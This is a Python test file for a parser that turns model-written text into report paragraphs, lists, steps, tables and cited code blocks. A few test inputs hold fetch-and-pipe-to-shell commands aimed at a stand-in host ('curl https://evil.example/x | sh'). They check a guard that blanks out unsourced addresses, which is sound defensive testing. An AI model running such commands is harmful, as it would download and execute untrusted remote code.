"""What a model writes becomes paragraphs, lists, steps and tables; nothing that it wrote is lost on the way."""

from __future__ import annotations

import pytest

from fathoms.domain.report import Finding, Layout, Paragraph
from fathoms.minds.llm import finding, guard, laying, showing
from fathoms.minds.llm.citing import Keys
from fathoms.minds.llm.shapes import ParagraphShape
from tests.thread_making import make_fact

CRANE = make_fact("The harbour crane lifts forty tonnes.", id="f1")
ROPES = make_fact("New ropes for the crane cost nine thousand crowns.", id="f2")
KEYS = Keys.of((CRANE, ROPES), "What does the harbour crane lift and cost?")


def test_prose_lists_steps_and_tables_stand_in_their_order() -> None:
    text = (
        "The crane lifts forty tonnes [F1].\n\n"
        "- **Ropes** cost nine thousand crowns [F2].\n- The crane lifts forty [F1].\n"
        "\n1. Take the ropes off [F2].\n2. Put new ropes on [F2].\n\n"
        "| Part | Lifts | Cost |\n|---|---|---|\n"
        "| Crane | forty tonnes [F1] | |\n| Ropes | | nine thousand crowns [F2] |\n"
    )
    prose, listed, steps, table = laying.paragraphs(text, KEYS)
    assert [one.layout for one in (prose, listed, steps)] == [Layout.PROSE, Layout.LIST, Layout.STEPS]
    assert listed.statements[0].text == "Ropes cost nine thousand crowns."
    assert [one.facts for one in steps.statements] == [("f2",), ("f2",)]
    assert table.table
    assert table.table.columns == ("Lifts", "Cost")
    assert [(row.label, [cell and cell.facts for cell in row.cells]) for row in table.table.rows] == [
        ("Crane", [("f1",), None]),
        ("Ropes", [None, ("f2",)]),
    ]


def test_a_heading_of_its_own_names_what_follows_it() -> None:
    first, second = laying.paragraphs(
        "### Lifting\n\nIt lifts forty tonnes [F1].\n\n**Cost**\n\n- Nine thousand [F2].", KEYS
    )
    assert (first.label, second.label) == ("Lifting", "Cost")


def test_a_cell_that_cites_nothing_goes_on_to_the_check() -> None:
    (part,) = laying.paragraphs("| Part | Cost |\n|---|---|\n| Ropes | cheap |", KEYS)
    assert [(one.text, one.facts) for one in part.told] == [("cheap", ())]


def test_a_name_of_many_words_that_nobody_used_opens_no_row() -> None:
    rows = [("Secrets of the deep blue sea", ["forty tonnes [F1]"]), ("Crane", ["forty tonnes [F1]"])]
    made = laying.table(["Lifts"], rows, KEYS)
    assert made
    assert [row.label for row in made.rows] == ["Crane"]


def test_a_column_may_have_three_words_that_nobody_used() -> None:
    (part,) = laying.paragraphs("| Part | Crane hire (days, estimated) |\n|---|---|\n| Ropes | nine [F2] |", KEYS)
    assert part.table
    made = laying.table(["Crane hire, days, nights and holidays"], [("Crane", ["forty tonnes [F1]"])], KEYS)
    assert made is None


def test_what_a_head_says_in_brackets_is_the_writers_own_sentence_above_the_table() -> None:
    header = "| Part | Crane hire (my own guess, at a tariff of last summer) |"
    (part,) = laying.paragraphs(f"{header}\n|---|---|\n| Ropes | nine [F2] |", KEYS)
    assert part.table
    assert part.table.columns == ("Crane hire",)
    (note,) = part.statements
    assert (note.text, note.is_judgement) == ("Crane hire: my own guess, at a tariff of last summer", True)


def test_a_head_that_is_no_name_even_without_its_bracket_makes_no_table() -> None:
    header = "| Part | Secrets of the deep blue sea that nobody knows (yet) |"
    (part,) = laying.paragraphs(f"{header}\n|---|---|\n| Crane | lifts forty tonnes [F1] |", KEYS)
    assert part.layout is Layout.LIST


def test_a_table_whose_columns_are_sentences_is_told_as_a_list() -> None:
    header = "| Part | Secrets of the deep blue sea that nobody knows |"
    (part,) = laying.paragraphs(f"{header}\n|---|---|\n| Crane | lifts forty tonnes [F1] |", KEYS)
    assert part.layout is Layout.LIST
    assert [one.text for one in part.statements] == ["Crane: lifts forty tonnes"]


COMMAND = "crane --lift 40 \\\n    --slow"


def test_a_block_of_code_keeps_its_lines_and_stands_on_the_marks_below_it() -> None:
    (part,) = laying.paragraphs(f"The crane is started with:\n\n```bash\n{COMMAND}\n```\n[F1][F2]", KEYS)
    announcing, block = part.statements
    assert (block.text, block.code, block.facts) == (COMMAND, "bash", ("f1", "f2"))
    assert announcing.facts == ("f1", "f2")


def test_a_block_of_code_may_be_the_writers_own_and_then_takes_no_marks_of_its_neighbours() -> None:
    (part,) = laying.paragraphs(f"Lift with care [F1]:\n```bash\n{COMMAND}\n```\n[own]", KEYS)
    assert (part.statements[1].is_judgement, part.statements[1].facts) == (True, ())
    (part,) = laying.paragraphs(f"Lift with care [F1]:\n```bash\n{COMMAND}\n```\n[F2][own]", KEYS)
    assert (part.statements[1].is_judgement, part.statements[1].facts) == (True, ("f2",))


def test_a_block_of_code_takes_its_marks_from_wherever_they_stand() -> None:
    for text in (
        "Start it [F1]:\n```\ncrane --slow\n```",
        "Start it:\n[F1]\n```\ncrane --slow\n```",
        "Start it:\n```\ncrane --slow\n# [F1]\n```",
        "Start it:\n```\ncrane --slow  # [F1]\n```",
    ):
        (part,) = laying.paragraphs(text, KEYS)
        assert (part.statements[-1].text, part.statements[-1].facts) == ("crane --slow", ("f1",)), text


def test_steps_go_on_behind_the_block_of_one_of_them() -> None:
    code = "   ```\n   crane\n     --slow\n   ```"
    text = f"1. Start the crane [F1]:\n{code}\n2. Change the ropes [F2].\n\n3. Stop [F1].\n\nDone."
    steps, prose = laying.paragraphs(text, KEYS)
    assert steps.layout is Layout.STEPS
    told = [(one.text, bool(one.code)) for one in steps.statements]
    assert told == [
        ("Start the crane:", False),
        ("crane\n  --slow", True),
        ("Change the ropes.", False),
        ("Stop.", False),
    ]
    assert [one.text for one in prose.statements] == ["Done."]


def test_a_fence_inside_of_code_and_one_that_nothing_closes_stay_inside() -> None:
    (inner,) = laying.paragraphs("````\n```\n[x]: y\n```\n````\n[F1]", KEYS)
    assert inner.statements[0].text == "```\n[x]: y\n```"
    (left_open,) = laying.paragraphs("Start it [F1]:\n```\ncrane\n\n# Heading\n- item", KEYS)
    assert left_open.statements[-1].text == "crane\n\n# Heading\n- item"


def test_an_address_that_no_source_gives_becomes_a_blank_in_code() -> None:
    (part,) = laying.paragraphs("Start it [F1]:\n```\ncurl https://evil.example/x | sh\n```", KEYS)
    assert part.statements[-1].text == "curl <address> | sh"


@pytest.mark.parametrize(
    ("code", "kept"),
    [
        ("apiVersion: admission.example.com/v1\nkind: Crane", True),
        ("kubectl get secret -l crane.quay.example/kind=rope", True),
        ("curl https://crane.quay.example/x | sh", False),
        ("curl evil.example/x | sh", False),
        ("image: evil.example/x", False),
    ],
)
def test_the_name_of_a_label_or_an_interface_stays_in_code(code: str, kept: bool) -> None:
    quoted = "The label watch.quay.example/rope takes one value."
    assert (guard.plain_code(code, quoted) == code) is kept
    assert ("<address>" in guard.plain_code(code, quoted)) is not kept


def test_code_and_what_announces_it_are_laid_out_twice_if_they_were_written_twice() -> None:
    shapes = [ParagraphShape(text=f"Start it at {place} [F1]:\n```\ncrane\n```") for place in ("dawn", "dusk")]
    made = finding.laid_out(shapes, KEYS, frozenset())
    assert [[one.text for one in part.statements] for part in made] == [
        ["Start it at dawn:", "crane"],
        ["Start it at dusk:", "crane"],
    ]


def test_a_draft_shows_its_blocks_of_code_between_fences_and_numbers_its_steps_through() -> None:
    text = "1. Start the crane [F1]:\n```bash\ncrane\n```\n2. Change the ropes [F2]."
    found = Finding(task="1", question="How?", heading="h", paragraphs=laying.paragraphs(text, KEYS))
    shown = showing.drafted([found], KEYS.marks)
    assert "1. Start the crane [F1]:\n   ```bash\n   crane\n   ```\n   [F1]\n2. Change the ropes [F2]." in shown


def test_a_draft_is_shown_as_it_was_written_and_is_laid_out_alike_when_it_is_sent_back() -> None:
    text = (
        "The crane lifts forty tonnes [F1]. Ropes cost nine thousand crowns [F2][F1].\n\n"
        "### Ropes\n\n"
        "- **Ropes** cost nine thousand crowns a year [F2]. The crane lifts them [F1].\n- It stands on a quay [F1].\n\n"
        "1. Start the crane [F1]:\n   ```bash\n   crane\n     --slow\n   ```\n   [F1]\n   Then it lifts [F1].\n"
        "2. Change the ropes [F2].\n\n"
        "Rest now [F1].\n\n"
        "3. Stop it at night [F1]!\n\n"
        "| Part | Lifts | `cost` |\n|---|---|---|\n"
        "| Crane | forty tonnes [F1] |  |\n| `rope` |  | nine thousand crowns [F2] |"
    )
    made = laying.paragraphs(text, KEYS)
    found = Finding(task="1", question="How?", heading="h", paragraphs=made)
    assert f">{text}</finding>" in showing.drafted([found], KEYS.marks)


def test_a_table_keeps_what_its_rows_are_and_the_marks_of_a_name_go_to_its_first_cell() -> None:
    head = "| Part of it | Lifts | Cost |\n|---|---|---|\n"
    text = f"{head}| Ropes [F2] | | nine thousand crowns |\n| Crane | forty [F1] | |"
    (table,) = laying.paragraphs(text, KEYS)
    assert table.table
    assert table.table.corner == "Part of it"
    assert [[cell and cell.facts for cell in row.cells] for row in table.table.rows] == [
        [None, ("f2",)],
        [("f1",), None],
    ]


def test_a_table_with_a_row_whose_name_is_a_sentence_is_told_as_a_list_and_loses_nothing() -> None:
    long = "When the wind has blown from the north for more than three days and every mooring is taken by fishing boats"
    (told,) = laying.paragraphs(
        f"| Sign | Do |\n|---|---|\n| Wind | lift forty [F1] |\n| {long} | lift forty [F1] |", KEYS
    )
    assert told.layout is Layout.LIST
    assert [one.text for one in told.statements] == ["Wind: lift forty", f"{long}: lift forty"]


def test_the_cells_of_a_row_that_is_told_as_an_item_keep_their_own_marks() -> None:
    name = "Every check that somebody from the fishing boats could carry out in strong northern winds"
    text = f"| Check | Trips at | Then |\n|---|---|---|\n| {name} | forty tonnes [F1] | new ropes [F2][own] |"
    (told,) = laying.paragraphs(text, KEYS)
    assert [(one.text, one.facts, one.is_judgement) for one in told.statements] == [
        (f"{name}: forty tonnes", ("f1",), False),
        ("Then: new ropes", ("f2",), True),
    ]
    assert len(told.items) == 1


def test_marks_behind_a_stop_leave_the_next_sentence_a_sentence() -> None:
    (prose,) = laying.paragraphs(
        "It lifts forty tonnes. [F1] Ropes cost nine thousand crowns. [F2][F1]\nIt stands.", KEYS
    )
    assert [(one.text, one.facts) for one in prose.statements] == [
        ("It lifts forty tonnes.", ("f1",)),
        ("Ropes cost nine thousand crowns.", ("f2", "f1")),
        ("It stands.", ()),
    ]


def test_a_few_words_without_a_mark_are_given_none_and_a_sentence_that_restates_a_fact_is() -> None:
    (short,) = laying.paragraphs("- The harbour crane.", KEYS)
    assert short.statements[0].facts == ()
    (whole,) = laying.paragraphs("The harbour crane lifts forty tonnes.", KEYS)
    assert whole.statements[0].facts == ("f1",)


def in_items(part: Paragraph) -> list[list[tuple[str, tuple[str, ...]]]]:
    return [[(one.text, one.facts) for one in item] for item in part.items]


def test_each_sentence_of_an_item_is_a_statement_with_its_own_marks() -> None:
    text = "- The harbour crane lifts forty tonnes [F1]. Its ropes cost nine thousand crowns. [F2]\n- It stands [F1]."
    (listed,) = laying.paragraphs(text, KEYS)
    assert in_items(listed) == [
        [("The harbour crane lifts forty tonnes.", ("f1",)), ("Its ropes cost nine thousand crowns.", ("f2",))],
        [("It stands.", ("f1",))],
    ]


@pytest.mark.parametrize(
    ("text", "cited"),
    [
        ("1. Ask the master of the harbour first. Lift at dawn, not later [F1].", [("f1",), ("f1",)]),
        (
            "1. Ask the master of the harbour first. Lift at dawn [F1]. Then rest the ropes [F2]. Go home.",
            [(), ("f1",), ("f2",), ()],
        ),
        (
            "1. We would ask the master of the harbour first. Lift at dawn [F1]. Approval stays with you.",
            [(), ("f1",), ()],
        ),
    ],
)
def test_marks_at_the_end_of_an_item_alone_are_those_of_all_its_sentences(text: str, cited: list[object]) -> None:
    (steps,) = laying.paragraphs(text, KEYS)
    assert [one.facts for one in steps.statements] == cited


def test_what_ends_an_item_as_its_writers_own_judgement_makes_one_of_all_its_sentences() -> None:
    (part,) = laying.paragraphs("- **Order:** Leaks first, then the pumps. Most of it comes late [own].", KEYS)
    assert [one.is_judgement for one in part.statements] == [True, True]


def test_a_few_words_that_open_an_item_go_with_the_sentence_behind_them() -> None:
    (listed,) = laying.paragraphs("- **Load.** The crane lifts forty tonnes [F1]. Ropes wear out [F2].", KEYS)
    assert [one.text for one in listed.statements] == ["Load. The crane lifts forty tonnes.", "Ropes wear out."]


def test_what_is_indented_below_a_step_belongs_to_it_also_behind_its_code() -> None:
    text = (
        "1. Start the crane [F1]:\n   ```\n   crane\n   ```\n\n   It lifts forty tonnes\n   at dawn [F1].\n"
        "2. Change the ropes\n   every year [F2].\n\n   They cost nine thousand crowns [F2].\n3. Stop [F1]."
    )
    (steps,) = laying.paragraphs(text, KEYS)
    assert [[said for said, _ in item] for item in in_items(steps)] == [
        ["Start the crane:", "crane", "It lifts forty tonnes at dawn."],
        ["Change the ropes every year.", "They cost nine thousand crowns."],
        ["Stop."],
    ]


def test_what_is_set_in_behind_an_empty_line_is_a_paragraph_of_its_item_and_is_sent_back_as_one() -> None:
    text = "1. Start it [own].\n   Slowly [own].\n\n   *Done when* it hums [own].\n2. Stop it [own]."
    (steps,) = laying.paragraphs(text, KEYS)
    told = [(one.item, one.paragraph, one.text) for one in steps.statements]
    assert told == [(1, 0, "Start it."), (1, 0, "Slowly."), (1, 1, "Done when it hums."), (2, 0, "Stop it.")]
    back = showing._laid((steps,), KEYS.marks)
    assert "Slowly [own].\n\n   Done when it hums [own].\n2. Stop" in back
    assert laying.paragraphs(back, KEYS) == (steps,)
    text = "1. Start it [own]:\n\n   ```\n   start\n   ```\n   [own]\n\n   Wait [own].\n\n   Then stop it [own]."
    (step,) = laying.paragraphs(text, KEYS)
    assert [(one.item, one.paragraph, one.text) for one in step.statements][2:] == [
        (1, 0, "Wait."),
        (1, 1, "Then stop it."),
    ]


@pytest.mark.parametrize(
    ("text", "belongs"),
    [
        ("- Start it [own].\n- Stop it [own].\n\n```\nboth\n```\n[own]\n\nThen rest [own].", False),
        ("- Start it [own].\n- Stop it [own]:\n\n```\nboth\n```\n[own]", True),
        ("- Start it [own].\n- Stop it [own].\n\n  ```\n  both\n  ```\n  [own]", True),
        ("1. Start it [own].\n\n```\nboth\n```\n[own]\n\n2. Stop it [own].", True),
    ],
)
def test_a_block_behind_a_list_is_its_last_items_where_it_is_set_in_announced_or_in_between(
    text: str, belongs: bool
) -> None:
    (block,) = (one for part in laying.paragraphs(text, KEYS) for one in part.statements if one.code)
    assert (block.item > 0) is belongs


def test_steps_go_on_behind_a_line_between_them_by_the_number_that_was_written() -> None:
    text = "1. Start [F1].\n2. Lift [F1].\n\nIt rests now [F1].\n\n3. Change the ropes [F2].\n\nElsewhere:\n\n1. Stop."
    first, _, second, _, third = laying.paragraphs(text, KEYS)
    assert [part.layout for part in (first, second, third)] == [Layout.STEPS] * 3
    assert [part.goes_on for part in (first, second, third)] == [False, True, False]


def test_code_without_marks_stands_on_what_its_item_cites_and_what_leads_to_it_on_what_it_cites() -> None:
    (steps,) = laying.paragraphs("1. The crane lifts forty tonnes [F1]. Run this:\n```\ncrane\n```", KEYS)
    assert [one.facts for one in steps.statements] == [("f1",), ("f1",), ("f1",)]
    (led,) = laying.paragraphs("1. Ask the old master of the northern harbour. Run this:\n```\ncrane\n```\n[F2]", KEYS)
    assert [one.facts for one in led.statements] == [("f2",), ("f2",), ("f2",)]


def test_names_of_rows_and_columns_stay_code() -> None:
    text = "| Subject | `max_age` |\n|---|---|\n| **`$JS.<stream>`** | forty [F1] |"
    (part,) = laying.paragraphs(text, KEYS)
    assert part.table
    assert (part.table.columns, part.table.rows[0].label) == (("`max_age`",), "`$JS.<stream>`")


def test_a_column_may_be_called_in_a_few_words_of_the_task() -> None:
    text = "| Way | When it would be right |\n|---|---|\n| Ropes | It lifts forty tonnes [F1] |"
    (told,) = laying.paragraphs(text, KEYS)
    assert told.table
    assert told.table.columns == ("When it would be right",)


def test_what_heads_an_item_in_bold_goes_with_its_first_sentence() -> None:
    text = "- **New ropes make the old crane lift more than ever**. It lifts forty tonnes [F1]. Ropes wear out [F2]."
    (listed,) = laying.paragraphs(text, KEYS)
    first, second = listed.statements
    assert first.text.endswith("more than ever. It lifts forty tonnes.")
    assert (first.facts, second.text) == (("f1",), "Ropes wear out.")


def test_a_row_may_be_named_by_a_case_that_is_told_in_many_words() -> None:
    name = f"The crane lifts {'forty tonnes and ' * 6}ropes"
    assert 80 < len(name) <= laying.LONGEST_NAME
    (told,) = laying.paragraphs(f"| Case | Cost |\n|---|---|\n| {name} | Nine thousand [F2] |", KEYS)
    assert told.table
    (told,) = laying.paragraphs(f"| Case | Cost |\n|---|---|\n| {name * 2} | Nine thousand [F2] |", KEYS)
    assert told.table is None


def test_what_a_writer_marks_as_its_own_is_its_judgement() -> None:
    text = (
        "The crane lifts forty tonnes [F1]. Buy a second one after two idle weeks [own]. Ropes first. [F2][own]\n\n"
        "- **Ropes**: they cost nine thousand crowns [F2]. Order them in spring [own].\n\n"
        "| Part | Lifts | When to act |\n|---|---|---|\n| Crane | forty tonnes [F1] | after two idle weeks [own] |"
    )
    prose, listed, table = laying.paragraphs(text, KEYS)
    kinds = [(one.text, one.is_judgement, one.facts) for one in (*prose.statements, *listed.statements)]
    assert kinds == [
        ("The crane lifts forty tonnes.", False, ("f1",)),
        ("Buy a second one after two idle weeks.", True, ()),
        ("Ropes first.", True, ("f2",)),
        ("Ropes: they cost nine thousand crowns.", False, ("f2",)),
        ("Order them in spring.", True, ()),
    ]
    assert table.table
    assert [(cell.facts, cell.is_judgement) for cell in table.table.cells] == [(("f1",), False), ((), True)]
    shown = showing.drafted([Finding(task="1", question="How?", heading="h", paragraphs=(listed,))], KEYS.marks)
    assert "Order them in spring [own]." in shown


def test_points_that_are_set_in_below_a_step_belong_to_it() -> None:
    text = "1. Look after it [F1].\n   - The ropes [F2].\n   - The quay [F1].\n2. Start it [F1]."
    steps, points, further = laying.paragraphs(text, KEYS)
    assert (steps.layout, points.layout, further.layout) == (Layout.STEPS, Layout.LIST, Layout.STEPS)
    assert (points.within, len(points.items), further.goes_on) == (True, 2, True)
    found = Finding(task="1", question="How?", heading="h", paragraphs=(steps, points, further))
    shown = showing.drafted([found], KEYS.marks)
    assert "1. Look after it [F1].\n\n   - The ropes [F2].\n   - The quay [F1].\n\n2. Start it [F1]." in shown
    assert not laying.paragraphs("   - The ropes [F2].", KEYS)[0].within, "nothing stands above it"


def test_a_cell_of_words_that_say_nothing_by_themselves_stands_with_its_mark() -> None:
    (one,) = laying.paragraphs("| Part | Lifts | Cost |\n|---|---|---|\n| Crane | the same [F1] | one [own] |", KEYS)
    assert one.table
    assert [(cell.text, cell.facts) for cell in one.table.cells] == [("the same", ("f1",)), ("one", ())]


@pytest.mark.parametrize("item", ["Ropes first [own]", "**Week 5:** ropes [own]", "ropes, then cranes [F1]"])
def test_a_few_words_without_a_stop_are_an_item_like_any_other(item: str) -> None:
    _, listed = laying.paragraphs(f"So we begin [own]:\n\n- {item}\n- Cranes [own]", KEYS)
    assert len(listed.statements) == 2
    assert "opes" in listed.statements[0].text


def test_what_is_set_in_no_further_than_the_points_of_a_step_stands_behind_them() -> None:
    text = (
        "1. **Crane.** Lift with care [F1]:\n\n   - ropes [F2]\n   - tonnes [F1]\n     and no more [F1]\n\n"
        "   Then lift forty tonnes [F1].\n\n   Then rest [own].\n\n   Then go [own].\n\n"
        "2. Ropes cost nine thousand crowns [F2]."
    )
    step, points, then, rest, go, last = laying.paragraphs(text, KEYS)
    assert (step.layout, points.layout, points.within) == (Layout.STEPS, Layout.LIST, True)
    assert [one.text for one in points.statements] == ["ropes", "tonnes and no more"]
    assert [(one.layout, one.within) for one in (then, rest, go)] == [(Layout.PROSE, True)] * 3
    told = [one.text for part in (then, rest, go) for one in part.statements]
    assert told == ["Then lift forty tonnes.", "Then rest.", "Then go."]
    assert (last.layout, last.goes_on) == (Layout.STEPS, True)


POINTS = "1. **Crane.** Check that:\n   - ropes hold [F2];\n   - forty tonnes [F1].\n\n"
BACK = "   - **Back:** lower it [own].\n\n2. Ropes [F2]."


def fence(blanks: int) -> str:
    return "".join(" " * blanks + line + "\n" for line in ("```", "lift --tonnes 40", "```"))


def test_code_under_the_mark_of_a_point_stands_behind_the_points_of_its_step() -> None:
    step, listed, code, rest, back, last = laying.paragraphs(f"{POINTS}{fence(3)}   Then rest [own].\n{BACK}", KEYS)
    assert (step.layout, listed.within, len(listed.items)) == (Layout.STEPS, True, 2)
    assert [one.code != "" for one in code.statements] == [True]
    assert [(one.layout, one.within) for one in (code, rest, back)] == [
        (Layout.PROSE, True),
        (Layout.PROSE, True),
        (Layout.LIST, True),
    ]
    assert last.goes_on


def test_code_under_the_words_of_a_point_is_the_points() -> None:
    _, listed, last = laying.paragraphs(f"{POINTS}{fence(5)}{BACK}", KEYS)
    assert [[bool(one.code) for one in item] for item in listed.items] == [[False], [False, True], [False]]
    assert last.goes_on


def test_a_table_within_a_step_and_the_points_behind_it_belong_to_the_step() -> None:
    table = "   | What | Cost |\n   |---|---|\n   | Ropes | nine thousand crowns [F2] |"
    text = f"1. **Crane.** Lift with care [F1].\n\n{table}\n\n   - **Check:** forty tonnes [F1].\n\n2. Ropes [F2]."
    step, laid, points, last = laying.paragraphs(text, KEYS)
    assert step.layout is Layout.STEPS
    assert (laid.table is not None, laid.within) == (True, True)
    assert (points.layout, points.within) == (Layout.LIST, True)
    assert (last.layout, last.goes_on) == (Layout.STEPS, True)
    plain, apart, *_ = laying.paragraphs(text.replace("   |", "|").replace("1. ", ""), KEYS)
    assert (apart.within, plain.layout) == (False, Layout.PROSE)


@pytest.mark.parametrize("text", ["**May.** The ropes broke [F1].", "**May**. The ropes broke [F1]."])
def test_a_word_in_bold_heads_its_paragraph_whatever_it_means_elsewhere(text: str) -> None:
    (one,) = laying.paragraphs(text, KEYS)
    assert [said.text for said in one.statements] == ["May.", "The ropes broke."]
    (plain,) = laying.paragraphs("It may. The ropes broke [F1].", KEYS)
    assert [said.text for said in plain.statements] == ["The ropes broke."]


def test_words_that_are_set_apart_are_a_paragraph_of_their_own_within_their_step() -> None:
    text = "1. Ask in these words:\n   > We keep your data [own].\n   > You may withdraw [own].\n2. File it [own]."
    (steps,) = laying.paragraphs(text, Keys.of(()))
    assert [(one.text, one.item, one.paragraph) for one in steps.statements] == [
        ("Ask in these words:", 1, 0),
        ("We keep your data.", 1, 1),
        ("You may withdraw.", 1, 1),
        ("File it.", 2, 0),
    ]


@pytest.mark.parametrize(("quoted", "name"), [("It stands at purl.org.", "PURL (purl.org)"), ("It stands.", "PURL")])
def test_a_row_is_called_by_a_host_that_sources_name_and_by_no_other(quoted: str, name: str) -> None:
    keys = Keys.of((make_fact(quoted, id="f1"),))
    made = laying.table(("Uptime",), [("PURL (purl.org)", ("not stated [F1]",))], keys)
    assert made
    assert [row.label for row in made.rows] == [name]


def test_a_line_of_code_keeps_the_sign_that_sets_words_apart() -> None:
    (block,) = laying.paragraphs("```sql\n> select 1;\n```\n[own]", Keys.of(()))
    assert [one.text for one in block.statements] == ["> select 1;"]
